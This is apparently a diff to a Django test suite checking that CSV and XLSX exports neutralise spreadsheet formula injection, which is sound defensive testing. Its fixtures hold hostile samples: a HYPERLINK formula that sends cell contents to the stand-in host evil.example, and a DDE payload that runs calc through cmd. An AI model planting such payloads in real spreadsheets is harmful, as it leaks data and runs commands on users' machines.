@@ -7,14 +7,16 @@ import pytest
 from django.urls import reverse
 from openpyxl import load_workbook
 
-from reports.export import COLUMNS, EXPORTS, HISTORY_COLUMNS, spreadsheet_cell
+from reports.export import COLUMNS, EXPORTS, HISTORY_COLUMNS, csv_cell
 from reports.forms import ExportForm
 from scoring.models import AllocationChange
-from sessions.models import Participant, Role
+from sessions.models import Contribution, Participant, Prompt, Role
 
 from .conftest import allocate, points
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"Klik")'
+# What people type that a spreadsheet would run, or that an escape would visibly change.
+HOSTILE_TEXTS = ["=SUM(A1:A9)", "@naam", "+31 6 1234", "-2+3", "'t Hooft", "=", "\tTab"]
 
 
 @pytest.fixture(autouse=True)
@@ -53,6 +55,11 @@ def hostile(evaluation, session, key_moment, verteller):
     session.save()
     allocate(session, attacker)
     allocate(session, verteller)
+    prompt = Prompt.objects.create(evaluation=evaluation, title="=1+1")
+    for text in HOSTILE_TEXTS:
+        Contribution.objects.create(
+            prompt=prompt, participant=attacker, text=text, client_token=text
+        )
     for person in (attacker, verteller):
         AllocationChange.objects.create(
             session=session, participant=person, new_points=points(), changed_by=person.name
@@ -62,30 +69,36 @@ def hostile(evaluation, session, key_moment, verteller):
 
 class TestFormulaInjection:
     @pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
-    def test_every_formula_trigger_is_neutralised(self, start):
-        assert spreadsheet_cell(f"{start}1+1") == f"'{start}1+1"
+    def test_every_formula_trigger_is_neutralised_in_a_csv_cell(self, start):
+        assert csv_cell(f"{start}1+1") == f"'{start}1+1"
 
     def test_plain_text_numbers_and_dates_stay_as_they_are(self):
-        assert spreadsheet_cell("Vera Verteller") == "Vera Verteller"
-        assert spreadsheet_cell(-3) == -3
-        assert spreadsheet_cell(None) is None
+        assert csv_cell("Vera Verteller") == "Vera Verteller"
+        assert csv_cell(-3) == -3
+        assert csv_cell(None) is None
 
     def test_control_characters_that_break_xlsx_are_removed(self):
-        assert spreadsheet_cell("Vera\x07 V\x00") == "Vera V"
+        assert csv_cell("Vera\x07 V\x00") == "Vera V"
 
     @pytest.mark.parametrize("names", ["on", ""])
-    def test_no_cell_of_any_sheet_is_a_formula_in_the_xlsx(
+    def test_every_xlsx_cell_is_a_plain_value_showing_exactly_what_was_typed(
         self, client, analyst, evaluation, hostile, names
     ):
+        """Tester: the XLSX showed the escape's apostrophe ('=SUM, '@naam). A string cell is
+        never evaluated, so the text goes in as typed: no formula, and no apostrophe added."""
         client.force_login(analyst)
         cells = xlsx_cells(export(client, evaluation, format="xlsx", names=names))
         assert cells
         assert not [c.value for c in cells if c.data_type == "f"]
+        assert not [c.value for c in cells if isinstance(c.value, str) and c.data_type != "s"]
         texts = [c.value for c in cells if isinstance(c.value, str)]
-        assert not [t for t in texts if t.startswith(("=", "+", "-", "@", "\t", "\r"))]
-        assert "'@SUM(1+1)*cmd|' /C calc'!A0" in texts  # the key moment, pseudonymised too
+        assert "@SUM(1+1)*cmd|' /C calc'!A0" in texts  # the key moment, pseudonymised too
+        assert any("-2+3" in t for t in texts)  # the room, inside the session's name
+        assert set(HOSTILE_TEXTS) <= set(texts)  # every contribution, on the wall sheet
+        assert "=1+1" in texts  # the question
+        assert not [t for t in texts if t.startswith("'") and t != "'t Hooft"]
         if names:
-            assert "'" + FORMULA in texts
+            assert FORMULA in texts and "+31 6 1234" in texts
 
     @pytest.mark.parametrize("kind", ["csv", "csv-wijzigingen"])
     @pytest.mark.parametrize("names", ["on", ""])
@@ -96,6 +109,22 @@ class TestFormulaInjection:
         assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
         if names:
             assert "'" + FORMULA in cells
+
+    @pytest.mark.parametrize("kind", ["csv", "csv-wijzigingen"])
+    def test_a_csv_cell_differs_from_what_was_typed_only_by_the_escape(
+        self, client, analyst, evaluation, hostile, kind
+    ):
+        """Unescaping (dropping the one apostrophe before a trigger) gives the text back."""
+        client.force_login(analyst)
+        rows = csv_rows(export(client, evaluation, format=kind, names="on"))
+        cells = {
+            c[1:] if c.startswith("'") and c[1:].startswith(("=", "+", "-", "@")) else c
+            for row in rows
+            for c in row
+        }
+        assert FORMULA in cells  # the name, in both files
+        if kind == "csv":
+            assert {"+31 6 1234", "@SUM(1+1)*cmd|' /C calc'!A0"} <= cells
 
     def test_an_xlsx_with_a_control_character_in_a_name_still_downloads(
         self, client, analyst, evaluation, session, verteller
